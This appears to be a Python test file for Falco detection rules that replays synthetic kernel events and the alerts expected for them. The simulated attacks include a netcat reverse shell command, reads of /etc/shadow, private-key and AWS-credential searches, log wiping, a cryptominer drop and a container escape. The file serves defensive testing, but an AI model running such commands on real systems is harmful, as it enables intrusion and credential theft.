    c.event("PPME_SOCKET_BIND_X", t, 0, ("inet", "0.0.0.0", 4444))
    c.event("PPME_SOCKET_LISTEN_E", t, 3, 1)
    c.event("PPME_SOCKET_LISTEN_X", t, 0)
    c.event("PPME_SOCKET_ACCEPT_5_E", t)
    c.event("PPME_SOCKET_ACCEPT_5_X", t, 4, ("inet", "203.0.113.66", 60000, "10.0.0.5", 4444), 0, 0, 1)
    c.event("PPME_SYSCALL_READ_E", t, 4, 100)
    c.event("PPME_SYSCALL_READ_X", t, 3, b"id\n")
    # IPv6 server socket bound to a port, unix server socket
    S(10, 1, 0)
    c.event("PPME_SOCKET_SOCKET_X", t, 5)
    c.event("PPME_SOCKET_BIND_E", t, 5)
    c.event("PPME_SOCKET_BIND_X", t, 0, ("inet6", "::", 8443))
    c.event("PPME_SOCKET_LISTEN_E", t, 5, 128)
    c.event("PPME_SOCKET_LISTEN_X", t, 0)
    S(1, 1, 0)
    c.event("PPME_SOCKET_SOCKET_X", t, 6)
    c.event("PPME_SOCKET_BIND_E", t, 6)
    c.event("PPME_SOCKET_BIND_X", t, 0, ("unix", "/tmp/.s.sock"))
    c.event("PPME_SOCKET_BIND_E", t, 6)
    c.event("PPME_SOCKET_BIND_X", t, -98, ("inet", "0.0.0.0", 22))
    # postgres talks on its unix socket
    c.event("PPME_SYSCALL_READ_E", 800, 5, 64)
    c.event("PPME_SYSCALL_READ_X", 800, 8, b"\x00\x00\x00\x08\x04\xd2\x16\x2f")


CTR1 = "c0ffee123456" + "ab" * 26          # 64 hex digits: docker container id
CTR2 = "d00d00d00d00" + "cd" * 26
CTR1_CG = ["cpuset=/docker/" + CTR1, "memory=/docker/" + CTR1]
CTR2_CG = ["cpuset=/docker/" + CTR2, "memory=/docker/" + CTR2]
ROOT_ENV = ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOSTNAME=web", "HOME=/root"]
NOLOGIN = 0xffffffff
TAIL = "evt_type=%s user=%s user_uid=%d user_loginuid=%d process=%s proc_exepath=%s parent=%s command=%s terminal=%d"


def tail(evt, user, uid, luid, proc, exepath, parent, cmd, tty, flags=None):
    t = TAIL % (evt, user, uid, luid, proc, exepath, parent, cmd, tty)
    return t if flags is None else t + " exe_flags=" + flags


def ctr_clone(c, parent, child, exe, args, comm, cgroups, vpid, pexe, pcomm, pargs=(), cwd="/", newpid=False,
              pptid=1, pvpid=None):
    """parent (on the host or in a container) clones child inside a container; pptid: the
    parent's own parent, pvpid: the parent's pid in its namespace."""
    pv = parent if pvpid is None else pvpid
    fl = CL_CHILD_CLEARTID | CL_CHILD_SETTID | ((CL_NEWPID | CL_NEWNS | CL_NEWNET) if newpid else 0)
    c.event("PPME_SYSCALL_CLONE_20_E", parent)
    c.event("PPME_SYSCALL_CLONE_20_X", parent, child, pexe, list(pargs), parent, parent, pptid, cwd, 1024, 0, 1,
            5000, 1000, 0, pcomm, cgroups if not newpid else ["cpuset=/", "memory=/"], fl, 0, 0,
            pv, pv, n=20)
    c.event("PPME_SYSCALL_CLONE_20_X", child, 0, pexe, list(pargs), child, child, parent, cwd, 1024, 0, 1,
            5000, 1000, 0, pcomm, cgroups, fl | ((1 << 29) if not newpid else 0), 0, 0, vpid, vpid, n=20)


def ctr_exec(c, tid, path, exe, args, comm, ppid, vpid, cgroups, tty=0, cwd="/", env=ROOT_ENV):
    c.event("PPME_SYSCALL_EXECVE_19_E", tid, path)
    c.event("PPME_SYSCALL_EXECVE_19_X", tid, 0, exe, args, tid, tid, ppid, cwd, 1048576, 0, 90, 4000, 1200, 0,
            comm, cgroups, env, tty, tid, NOLOGIN, 0, n=20)


FA = ("falco", "all")


def s_attack(c):
    """Attack sequences the upstream rules (falco_rules.yaml) must flag, with the alerts Falco
    prints for them (expected text reasoned from each rule's output format and the fields'
    semantics: fields.md). Old (2022 driver) layouts: also compared with sysdig 0.29.3."""
    world(c)
    c.thread(900, 900, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
             ["-namespace", "moby", "-id", CTR1], "/run/containerd", exepath="/usr/bin/containerd-shim-runc-v2")
    js = '{"container":{"id":"%s","image":"docker.io/library/alpine:3.19","imagerepo":"docker.io/library/alpine",' \
         '"imagetag":"3.19","ip":"172.17.0.2","name":"web","privileged":false,"type":0}}\n'
    c.event("PPME_CONTAINER_JSON_E", 0, js % CTR1[:12])
    js2 = '{"container":{"id":"%s","image":"docker.io/library/ubuntu:22.04","imagerepo":"docker.io/library/ubuntu",' \
          '"imagetag":"22.04","ip":"172.17.0.3","name":"priv","privileged":true,"type":0}}\n'
    c.event("PPME_CONTAINER_JSON_E", 0, js2 % CTR2[:12])
    shim = ("/usr/bin/containerd-shim-runc-v2", ["-namespace", "moby", "-id", CTR1], "containerd-shim")

    # kubectl/docker exec -it: a shell in the container, parent containerd-shim, with a tty
    ctr_clone(c, 900, 901, shim[0], "", shim[2], CTR1_CG, 1, shim[0], shim[2], shim[1], newpid=True)
    ctr_exec(c, 901, "/bin/bash", "bash", [], "bash", 900, 1, CTR1_CG, tty=34817)
    c.expect(FA, "Terminal shell in container", "Notice",
             "A shell was spawned in a container with an attached terminal | " +
             tail("execve", "root", 0, -1, "bash", "/bin/bash", "containerd-shim", "bash", 34817, "0"))
    # netcat with -e from that shell
    ctr_clone(c, 901, 902, "bash", [], "bash", CTR1_CG, 2, "bash", "bash", pptid=900, pvpid=1)
    ctr_exec(c, 902, "/usr/bin/nc", "nc", ["-e", "/bin/sh", "10.0.0.9", "4444"], "nc", 901, 2, CTR1_CG, tty=34817)
    c.expect(FA, "Netcat Remote Code Execution in Container", "Warning",
             "Netcat runs inside container that allows remote code execution | " +
             tail("execve", "root", 0, -1, "nc", "/usr/bin/nc", "bash", "nc -e /bin/sh 10.0.0.9 4444", 34817, "0"))
    # reverse shell: connect, then dup2(sock, 0/1/2)
    c.event("PPME_SOCKET_SOCKET_E", 902, 2, 1, 6)
    c.event("PPME_SOCKET_SOCKET_X", 902, 3)
    c.event("PPME_SOCKET_CONNECT_E", 902, 3, ("inet", "10.0.0.9", 4444))
    c.event("PPME_SOCKET_CONNECT_X", 902, 0, ("inet", "10.0.0.5", 40000, "10.0.0.9", 4444))
    for newfd in (0, 1, 2):
        c.event("PPME_SYSCALL_DUP_E", 902, 3)
        c.event("PPME_SYSCALL_DUP_X", 902, newfd)
        c.expect(FA, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
                 "Redirect stdout/stdin to network connection | gparent=containerd-shim ggparent=systemd "
                 "gggparent=<NA> fd.sip=10.0.0.9 connection=10.0.0.5:40000->10.0.0.9:4444 lport=40000 "
                 "rport=4444 fd_type=ipv4 fd_proto=tcp " +
                 tail("dup", "root", 0, -1, "nc", "/usr/bin/nc", "bash", "nc -e /bin/sh 10.0.0.9 4444", 34817))
    # a packet socket in the container
    c.event("PPME_SOCKET_SOCKET_E", 902, 17, 3, 768)
    c.event("PPME_SOCKET_SOCKET_X", 902, 4)
    c.expect(FA, "Packet socket created in container", "Notice",
             "Packet socket was created in a container | socket_info=fd=4(<o>) domain=17(AF_PACKET) type=3 "
             "proto=768 flags=0(O_NONE) connection= lport=<NA> rport=<NA> fd_type=<NA> fd_proto=<NA> " +
             tail("socket", "root", 0, -1, "nc", "/usr/bin/nc", "bash", "nc -e /bin/sh 10.0.0.9 4444", 34817))

    # debugfs in a privileged container
    ctr_clone(c, 900, 910, shim[0], "", shim[2], CTR2_CG, 1, shim[0], shim[2], shim[1], newpid=True)
    ctr_exec(c, 910, "/usr/sbin/debugfs", "debugfs", ["/dev/sda1"], "debugfs", 900, 1, CTR2_CG)
    c.expect(FA, "Debugfs Launched in Privileged Container", "Warning",
             "Debugfs launched started in a privileged container | " +
             tail("execve", "root", 0, -1, "debugfs", "/usr/sbin/debugfs", "containerd-shim", "debugfs /dev/sda1", 0, "0"))

    # web server spawns a shell (RCE), the shell reads /etc/shadow
    spawn(c, 701, 720, "sh", ["-c", "id; cat /etc/shadow"], "sh", "/bin/sh", ptid=700, cwd="/", uid=33, gid=33,
          env=["PATH=/usr/bin:/bin"], loginuid=NOLOGIN, tty=0, pexe="nginx: worker process", pcomm="nginx")
    c.expect(FA, "Run shell untrusted", "Notice",
             "Shell spawned by untrusted binary | parent_exe=nginx: worker process parent_exepath=/usr/sbin/nginx "
             "pcmdline=nginx gparent=nginx ggparent=systemd aname[4]=<NA> aname[5]=<NA> aname[6]=<NA> "
             "aname[7]=<NA> " +
             tail("execve", "www-data", 33, -1, "sh", "/bin/sh", "nginx", "sh -c id; cat /etc/shadow", 0, "0"))
    # the worker itself reads /etc/shadow (trusted program after startup: first matching rule)
    c.event("PPME_SYSCALL_OPENAT_2_E", 701, AT_FDCWD, "/etc/shadow", O_RDONLY, 0)
    c.event("PPME_SYSCALL_OPENAT_2_X", 701, 12, AT_FDCWD, "/etc/shadow", O_RDONLY, 0, 0x803, n=6)
    c.expect(FA, "Read sensitive file trusted after startup", "Warning",
             "Sensitive file opened for reading by trusted program after startup | file=/etc/shadow pcmdline=nginx "
             "gparent=systemd ggparent=<NA> gggparent=<NA> " +
             tail("openat", "www-data", 33, -1, "nginx", "/usr/sbin/nginx", "nginx", "nginx", 0))

    # interactive session: cat /etc/shadow as root (sudo), a system user command, searches
    spawn(c, 600, 640, "cat", ["/etc/shadow"], "cat", "/usr/bin/cat", ptid=510, uid=0, gid=0)
    c.event("PPME_SYSCALL_OPEN_E", 640, "/etc/shadow", O_RDONLY | O_CLOEXEC, 0)
    c.event("PPME_SYSCALL_OPEN_X", 640, 3, "/etc/shadow", O_RDONLY | O_CLOEXEC, 0, 0x803, n=5)
    c.expect(FA, "Read sensitive file untrusted", "Warning",
             "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd "
             "ggparent=sshd gggparent=systemd " +
             tail("open", "root", 0, 1000, "cat", "/usr/bin/cat", "bash", "cat /etc/shadow", TTY))
    procexit(c, 640)
    spawn(c, 600, 641, "id", [], "id", "/usr/bin/id", ptid=510, uid=33, gid=33)
    c.expect(FA, "System user interactive", "Informational",
             "System user ran an interactive command | " +
             tail("execve", "www-data", 33, 1000, "id", "/usr/bin/id", "bash", "id", TTY, "0"))
    spawn(c, 600, 642, "grep", ["-r", "BEGIN RSA PRIVATE", "/home"], "grep", "/usr/bin/grep", ptid=510)
    c.expect(FA, "Search Private Keys or Passwords", "Warning",
             "Grep private keys or passwords activities found | " +
             tail("execve", "alice", 1000, 1000, "grep", "/usr/bin/grep", "bash", "grep -r BEGIN RSA PRIVATE /home",
                  TTY, "0"))
    spawn(c, 600, 643, "find", ["/", "-path", "*.aws/credentials"], "find", "/usr/bin/find", ptid=510)
    c.expect(FA, "Find AWS Credentials", "Warning",
             "Detected AWS credentials search activity | proc_pcmdline=bash proc_cwd=/home/alice/ group_gid=1000 "
             "group_name=alice user_loginname=alice " +
             tail("execve", "alice", 1000, 1000, "find", "/usr/bin/find", "bash", "find / -path *.aws/credentials",
                  TTY, "0"))
    spawn(c, 600, 644, "shred", ["-u", "/tmp/secret"], "shred", "/usr/bin/shred", ptid=510)
    c.expect(FA, "Remove Bulk Data from Disk", "Warning",
             "Bulk data has been removed from disk | file=<NA> " +
             tail("execve", "alice", 1000, 1000, "shred", "/usr/bin/shred", "bash", "shred -u /tmp/secret", TTY, "0"))
    spawn(c, 600, 645, "/dev/shm/miner", ["--donate=0"], "miner", "/dev/shm/miner", ptid=510)
    c.expect(FA, "Execution from /dev/shm", "Warning",
             "File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/home/alice/ "
             "proc_pcmdline=bash user_loginname=alice group_gid=1000 group_name=alice " +
             tail("execve", "alice", 1000, 1000, "miner", "/dev/shm/miner", "bash", "miner --donate=0", TTY, "0"))
    # log tampering by a root shell
    spawn(c, 600, 646, "sh", ["-c", ": > /var/log/auth.log"], "sh", "/bin/sh", ptid=510, uid=0, gid=0)
    c.event("PPME_SYSCALL_OPENAT_2_E", 646, AT_FDCWD, "/var/log/auth.log", O_WRONLY | O_CREAT | O_TRUNC, 0o666)
    c.event("PPME_SYSCALL_OPENAT_2_X", 646, 3, AT_FDCWD, "/var/log/auth.log", O_WRONLY | O_CREAT | O_TRUNC, 0o666,
            0x803, n=6)
    c.expect(FA, "Clear Log Activities", "Warning",
             "Log files were tampered | file=/var/log/auth.log " +
             tail("openat", "root", 0, 1000, "sh", "/bin/sh", "bash", "sh -c : > /var/log/auth.log", TTY))
    # reverse ssh tunnel to a non-standard port
    spawn(c, 600, 647, "ssh", ["-R", "9000:localhost:22", "-p", "443", "203.0.113.5"], "ssh", "/usr/bin/ssh",
          ptid=510)
    c.event("PPME_SOCKET_SOCKET_E", 647, 2, 1, 6)
    c.event("PPME_SOCKET_SOCKET_X", 647, 3)
    c.event("PPME_SOCKET_CONNECT_E", 647, 3, ("inet", "203.0.113.5", 443))
    c.event("PPME_SOCKET_CONNECT_X", 647, 0, ("inet", "10.0.0.5", 38000, "203.0.113.5", 443))
    c.expect(FA, "Disallowed SSH Connection Non Standard Port", "Notice",
             "Disallowed SSH Connection | connection=10.0.0.5:38000->203.0.113.5:443 lport=38000 rport=443 "
             "fd_type=ipv4 fd_proto=tcp " +
             tail("connect", "alice", 1000, 1000, "ssh", "/usr/bin/ssh", "bash",
                  "ssh -R 9000:localhost:22 -p 443 203.0.113.5", TTY))
    # anti-debugging
    c.event("PPME_SYSCALL_PTRACE_E", 647, 1, 0)
    c.event("PPME_SYSCALL_PTRACE_X", 647, 0, (0, "UINT64", 0), (0, "UINT64", 0))
    c.expect(FA, "PTRACE anti-debug attempt", "Notice",
             "Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=bash " +
             tail("ptrace", "alice", 1000, 1000, "ssh", "/usr/bin/ssh", "bash",
                  "ssh -R 9000:localhost:22 -p 443 203.0.113.5", TTY))
    # directory traversal through a PHP worker (parent php-fpm, not a shell)
    c.thread(750, 750, 1, "php-fpm8.2", "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)", [],
             "/", exepath="/usr/sbin/php-fpm8.2")
    spawn(c, 750, 751, "php-fpm: pool www", [], "php-fpm8.2", "/usr/sbin/php-fpm8.2", ptid=1, cwd="/var/www/html",
          uid=33, gid=33, env=[], loginuid=NOLOGIN, tty=0, pexe="php-fpm: master process", pcomm="php-fpm8.2")
    c.event("PPME_SYSCALL_OPENAT_2_E", 751, AT_FDCWD, "../../../etc/passwd", O_RDONLY, 0)
    c.event("PPME_SYSCALL_OPENAT_2_X", 751, 5, AT_FDCWD, "../../../etc/passwd", O_RDONLY, 0, 0x803, n=6)
    c.expect(FA, "Directory traversal monitored file read", "Warning",
             "Read monitored file via directory traversal | file=/etc/passwd fileraw=../../../etc/passwd "
             "gparent=systemd ggparent=<NA> gggparent=<NA> " +
             tail("openat", "www-data", 33, -1, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm8.2",
                  "php-fpm8.2", 0))


# capabilities (kernel bit numbers)
CAP_DAC_OVERRIDE, CAP_SYS_MODULE, CAP_SYS_ADMIN, CAP_NET_RAW = 1, 16, 21, 13
CAPS_DEFAULT = (1 << 0) | (1 << 1) | (1 << 3) | (1 << 4) | (1 << 5) | (1 << 6) | (1 << 7) | (1 << 8) | \
    (1 << 10) | (1 << 13) | (1 << 18) | (1 << 27) | (1 << 29) | (1 << 31)
EXE_WRITABLE, EXE_UPPER_LAYER, EXE_FROM_MEMFD = 1, 2, 4
BOOT_TS = 1699990000000000000


def h_clone(c, sym, evtid, res, tid, pid, ptid, exe, args, comm, cgroups, flags, uid=0, gid=0, vtid=None,
            vpid=None, cwd="/", pidns_start=0):
    """a clone exit of a current driver (21 parameters)"""
    c.event(sym, evtid, res, exe, args, tid, pid, ptid, cwd, 1048576, 0, 10, 6000, 1500, 0, comm, cgroups,
            flags, uid, gid, tid if vtid is None else vtid, pid if vpid is None else vpid, pidns_start)


def h_execve(c, tid, res, exe, args, pid, ptid, comm, cgroups, env, filename, exepath, tty=0, pgid=None,
             loginuid=NOLOGIN, flags=0, caps=CAPS_DEFAULT, ino=(4242, 1699000000000000000, 1699000000000000000),
             uid=0, gid=0, cwd="/", sym="PPME_SYSCALL_EXECVE_19_X"):
    """an execve exit of a current driver (31 parameters; execveat: 30, no filename)"""
    p = [res, exe, args, tid, pid, ptid, cwd, 1048576, 0, 100, 7000, 2500, 0, comm, cgroups, env, tty,
         pid if pgid is None else pgid, loginuid, flags, caps, caps, caps, ino[0], ino[1], ino[2], uid,
         exepath, pid if pgid is None else pgid, gid]
    if sym == "PPME_SYSCALL_EXECVE_19_X":
        p.append(filename)
    c.event(sym, tid, *p)


def s_head(c):
    """What current drivers write (exit events only, every parameter of the current schemas,
    codes sysdig 0.29.3 does not know): memfd fileless execution, kernel module loading,
    release_agent escape, dup2/dup3 reverse shell, BPF program load, drop and execute in a
    container, and the state events of the current schema (clone3, pipe2, prctl, accept4,
    socket/connect with every parameter, procexit with reaper)."""
    c.boot_ts = BOOT_TS
    world(c)
    c.thread(900, 900, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
             ["-namespace", "moby", "-id", CTR1], "/run/containerd", exepath="/usr/bin/containerd-shim-runc-v2")
    js = '{"container":{"id":"%s","image":"docker.io/library/alpine:3.19","imagerepo":"docker.io/library/alpine",' \
         '"imagetag":"3.19","ip":"172.17.0.2","name":"web","privileged":false,"type":0}}'
    c.event("PPME_CONTAINER_JSON_2_E", 0, js % CTR1[:12])
    shim_args = ["-namespace", "moby", "-id", CTR1]
    SHIM = "/usr/bin/containerd-shim-runc-v2"

    # --- fileless execution on the host: memfd_create, write, execveat(fd, "", AT_EMPTY_PATH)
    h_clone(c, "PPME_SYSCALL_CLONE_20_X", 600, 660, 600, 600, 510, "-bash", [], "bash", ["cpuset=/"],
            CL_CHILD_CLEARTID | CL_CHILD_SETTID, 1000, 1000, cwd="/home/alice")
    h_clone(c, "PPME_SYSCALL_CLONE_20_X", 660, 0, 660, 660, 600, "-bash", [], "bash", ["cpuset=/"],
            CL_CHILD_CLEARTID | CL_CHILD_SETTID, 1000, 1000, cwd="/home/alice")
    h_execve(c, 660, 0, "python3", ["loader.py"], 660, 600, "python3", ["cpuset=/"], ALICE_ENV,
             "/usr/bin/python3", "/usr/bin/python3.11", tty=TTY, loginuid=1000, uid=1000, gid=1000,
             cwd="/home/alice")
    c.event("PPME_SYSCALL_MEMFD_CREATE_X", 660, 3, "payload", 1)
    c.event("PPME_SYSCALL_WRITE_X", 660, 4, b"\x7fELF", 3, 4)
    h_execve(c, 660, 0, "payload", ["-q"], 660, 600, "3", ["cpuset=/"], ALICE_ENV, None, "memfd:payload",
             tty=TTY, loginuid=1000, flags=EXE_FROM_MEMFD, uid=1000, gid=1000, cwd="/home/alice",
             sym="PPME_SYSCALL_EXECVEAT_X")
    # container.start_ts of a host process: the machine's boot time (fields.md)
    c.expect(FA, "Fileless execution via memfd_create", "Critical",
             "Fileless execution via memfd_create | container_start_ts=1699990000000000000 proc_cwd=/home/alice/ evt_res=SUCCESS "
             "proc_sname=bash gparent=sshd " +
             tail("execveat", "alice", 1000, 1000, "3", "memfd:payload", "bash", "3 -q", TTY, "EXE_FROM_MEMFD"))
    # a BPF program load by the same process (bpf_2: fd, cmd)
    c.event("PPME_SYSCALL_BPF_2_X", 660, 5, 5)
    c.expect("all", "BPF Program Not Profiled", "Notice",
             "BPF Program Not Profiled | bpf_cmd=BPF_PROG_LOAD " +
             tail("bpf", "alice", 1000, 1000, "3", "memfd:payload", "bash", "3 -q", TTY))
    c.event("PPME_SYSCALL_BPF_2_X", 660, -1, 0)
    c.event("PPME_PROCEXIT_1_E", 660, 0, 0, 0, 0, 600)

    # --- a container started by the shim (clone3 into new namespaces), its shell
    ns = CL_NEWPID | CL_NEWNS | CL_NEWNET | CL_CHILD_CLEARTID
    h_clone(c, "PPME_SYSCALL_CLONE3_X", 900, 930, 900, 900, 1, SHIM, shim_args, "containerd-shim",
            ["cpuset=/"], ns, cwd="/run/containerd")
    h_clone(c, "PPME_SYSCALL_CLONE3_X", 930, 0, 930, 930, 900, SHIM, shim_args, "containerd-shim",
            CTR1_CG, ns, vtid=1, vpid=1, cwd="/run/containerd", pidns_start=10000000000)
    caps_admin = CAPS_DEFAULT | (1 << CAP_SYS_ADMIN) | (1 << CAP_SYS_MODULE)
    h_execve(c, 930, 0, "/bin/sh", ["-c", "sleep 3600"], 930, 900, "sh", CTR1_CG, ROOT_ENV, "/bin/sh",
             "/bin/busybox", caps=caps_admin)
    c.expect("all", "Launch Excessively Capable Container", "Informational",
             "Excessively capable container started | cap_permitted=CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER "
             "CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_MODULE "
             "CAP_SYS_CHROOT CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP " +
             tail("execve", "root", 0, -1, "sh", "/bin/busybox", "containerd-shim", "sh -c sleep 3600", 0))
    # drop and execute: a binary written to the container's upper layer
    h_clone(c, "PPME_SYSCALL_CLONE_20_X", 930, 931, 930, 930, 900, "/bin/sh", ["-c", "sleep 3600"], "sh",
            CTR1_CG, CL_CHILD_CLEARTID | CL_CHILD_SETTID | (1 << 29), vtid=1, vpid=1,
            pidns_start=10000000000)
    h_clone(c, "PPME_SYSCALL_CLONE_20_X", 931, 0, 931, 931, 930, "/bin/sh", ["-c", "sleep 3600"], "sh",
            CTR1_CG, CL_CHILD_CLEARTID | CL_CHILD_SETTID | (1 << 29), vtid=7, vpid=7,
            pidns_start=10000000000)
    h_execve(c, 931, 0, "/tmp/xmrig", ["-o", "pool:3333"], 931, 930, "xmrig", CTR1_CG, ROOT_ENV,
             "/tmp/xmrig", "/tmp/xmrig", flags=EXE_UPPER_LAYER | EXE_WRITABLE, caps=caps_admin,
             ino=(777, 1699999990000000000, 1699999980000000000), pgid=7, cwd="/tmp")
    # proc.sname: the eldest ancestor with the same sid (in a pid namespace): the shim;
    # ctime_duration_proc_start = clone_ts - exe ctime; proc.cwd: execve does not change the
    # cwd (inherited at clone from the shim), its cwd parameter is not used
    c.expect(FA, "Drop and execute new binary in container", "Critical",
             "Executing binary not part of base image | proc_exe=/tmp/xmrig proc_sname=containerd-shim "
             "gparent=containerd-shim proc_exe_ino_ctime=1699999990000000000 proc_exe_ino_mtime=1699999980000000000 "
             "proc_exe_ino_ctime_duration_proc_start=10000015000 proc_cwd=/run/containerd/ "
             "container_start_ts=1699990010000000000 " +
             tail("execve", "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0,
                  "EXE_WRITABLE|EXE_UPPER_LAYER"))
    # release_agent escape and a kernel module load from the container
    c.event("PPME_SYSCALL_OPENAT_2_X", 931, 3, AT_FDCWD, "/sys/fs/cgroup/rdma/release_agent", O_WRONLY | O_TRUNC,
            0, 0x2f, 91)
    c.expect(FA, "Detect release_agent File Container Escapes", "Critical",
             "Detect an attempt to exploit a container escape using release_agent file | "
             "file=/sys/fs/cgroup/rdma/release_agent cap_effective=CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID "
             "CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_MODULE "
             "CAP_SYS_CHROOT CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP " +
             tail("openat", "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0))
    c.event("PPME_SYSCALL_OPENAT_2_X", 931, 4, AT_FDCWD, "rootkit.ko", O_RDONLY | O_CLOEXEC, 0, 0x2f, 92)
    c.event("PPME_SYSCALL_FINIT_MODULE_X", 931, 0, 4, "", 0)
    c.expect(FA, "Linux Kernel Module Injection Detected", "Warning",
             "Linux Kernel Module injection from container | parent_exepath=/bin/busybox gparent=containerd-shim "
             "gexepath=/usr/bin/containerd-shim-runc-v2 module=-o pool:3333 res=SUCCESS " +
             tail("finit_module", "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0))
    c.event("PPME_SYSCALL_INIT_MODULE_X", 931, -17, b"\x7fELF\x02\x01", 6, "debug=1")
    c.expect(FA, "Linux Kernel Module Injection Detected", "Warning",
             "Linux Kernel Module injection from container | parent_exepath=/bin/busybox gparent=containerd-shim "
             "gexepath=/usr/bin/containerd-shim-runc-v2 module=-o pool:3333 res=EEXIST " +
             tail("init_module", "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0))
    # reverse shell with the current dup2/dup3 events
    c.event("PPME_SOCKET_SOCKET_X", 931, 5, 2, 1, 6, 0)
    c.event("PPME_SOCKET_CONNECT_X", 931, 0, ("inet", "172.17.0.2", 41000, "198.51.100.7", 9001), 5,
            ("inet", "198.51.100.7", 9001))
    for newfd, sym in ((0, "PPME_SYSCALL_DUP2_X"), (1, "PPME_SYSCALL_DUP3_X")):
        c.event(sym, 931, newfd, 5, newfd, *((O_CLOEXEC,) if sym.endswith("DUP3_X") else ()))
        c.expect(FA, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
                 "Redirect stdout/stdin to network connection | gparent=containerd-shim ggparent=systemd "
                 "gggparent=<NA> fd.sip=198.51.100.7 connection=172.17.0.2:41000->198.51.100.7:9001 lport=41000 "
                 "rport=9001 fd_type=ipv4 fd_proto=tcp " +
                 tail(sym[13:-2].lower(), "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0))
    c.event("PPME_SYSCALL_DUP_1_X", 931, 6, 5)
    # state events of the current schema
    c.event("PPME_SYSCALL_PIPE2_X", 931, 0, 7, 8, 5151, O_CLOEXEC)
    c.event("PPME_SYSCALL_PRCTL_X", 931, 0, 36, None, 1)
    c.event("PPME_SOCKET_ACCEPT4_6_X", 701, 13, ("inet", "192.0.2.44", 50505, "10.0.0.5", 80), 0, 0, 511, 0x800)
    c.event("PPME_SYSCALL_READ_X", 701, 5, b"GET /", 13, 4096)
    c.event("PPME_SYSCALL_CLOSE_X", 701, 0, 13)
    c.event("PPME_PROCEXIT_1_E", 931, 0, 0, 0, 0, 930)


def s_state(c):
    """State bookkeeping across events: fd inheritance over fork, CLOEXEC fds closed by
    execve, threads sharing the fd table, fd reuse after close, execve by a secondary thread,
    execve whose cwd parameter differs from the inherited cwd, setsid/setpgid, rlimits, fd
    types from eventfd/signalfd/timerfd/inotify, chroot, generic syscalls, the old procexit
    without parameters."""
    world(c)
    # bash opens a file with and without CLOEXEC, forks; the child sees both until execve
    c.event("PPME_SYSCALL_OPEN_E", 600, "/home/alice/.bash_history", O_WRONLY | O_APPEND, 0)
    c.event("PPME_SYSCALL_OPEN_X", 600, 3, "/home/alice/.bash_history", O_WRONLY | O_APPEND, 0, 0x803, n=5)
    c.event("PPME_SYSCALL_OPEN_E", 600, "/etc/ld.so.cache", O_RDONLY | O_CLOEXEC, 0)
    c.event("PPME_SYSCALL_OPEN_X", 600, 4, "/etc/ld.so.cache", O_RDONLY | O_CLOEXEC, 0, 0x803, n=5)
    c.event("PPME_SYSCALL_FORK_20_E", 600)
    clone_x(c, "PPME_SYSCALL_FORK_20_X", 600, 670, 600, 600, 510, "-bash", [], "bash",
            CL_CHILD_CLEARTID | CL_CHILD_SETTID)
    clone_x(c, "PPME_SYSCALL_FORK_20_X", 670, 0, 670, 670, 600, "-bash", [], "bash",
            CL_CHILD_CLEARTID | CL_CHILD_SETTID)
    c.event("PPME_SYSCALL_READ_E", 670, 4, 10)
    c.event("PPME_SYSCALL_READ_X", 670, 10, b"0123456789")
    c.event("PPME_SYSCALL_EXECVE_19_E", 670, "/usr/bin/make")
    # the cwd parameter of the execve is not the inherited cwd (a chdir in between lost)
    execve_x(c, 670, 0, "make", ["-j2"], 670, 600, "make", cwd="/home/alice/src")
    c.event("PPME_SYSCALL_WRITE_E", 670, 3, 5)
    c.event("PPME_SYSCALL_WRITE_X", 670, 5, b"make\n")
    # fd reuse: close 3, open another file as 3
    c.event("PPME_SYSCALL_CLOSE_E", 670, 3)
    c.event("PPME_SYSCALL_CLOSE_X", 670, 0)
    c.event("PPME_SYSCALL_OPEN_E", 670, "Makefile", O_RDONLY, 0)
    c.event("PPME_SYSCALL_OPEN_X", 670, 3, "Makefile", O_RDONLY, 0, 0x803, n=5)
    c.event("PPME_SYSCALL_READ_E", 670, 3, 4)
    c.event("PPME_SYSCALL_READ_X", 670, 4, b"all:")
    # a thread of make (CLONE_FILES): it uses the process's fd table
    tfl = CL_VM | CL_FS | CL_FILES | CL_SIGHAND | CL_THREAD | CL_SETTLS | CL_CHILD_CLEARTID
    c.event("PPME_SYSCALL_CLONE_20_E", 670)
    clone_x(c, "PPME_SYSCALL_CLONE_20_X", 670, 671, 670, 670, 600, "make", ["-j2"], "make", tfl)
    clone_x(c, "PPME_SYSCALL_CLONE_20_X", 671, 0, 671, 670, 600, "make", ["-j2"], "make", tfl)
    c.event("PPME_SYSCALL_READ_E", 671, 3, 4)
    c.event("PPME_SYSCALL_READ_X", 671, 4, b"\tcc ")
    c.event("PPME_SYSCALL_OPEN_E", 671, "/tmp/make.lock", O_RDWR | O_CREAT, 0o600)
    c.event("PPME_SYSCALL_OPEN_X", 671, 5, "/tmp/make.lock", O_RDWR | O_CREAT, 0o600, 0x803, n=5)
    c.event("PPME_SYSCALL_WRITE_E", 670, 5, 1)
    c.event("PPME_SYSCALL_WRITE_X", 670, 1, b"1")
    # fd types
    c.event("PPME_SYSCALL_EVENTFD_E", 670, 0, 0)
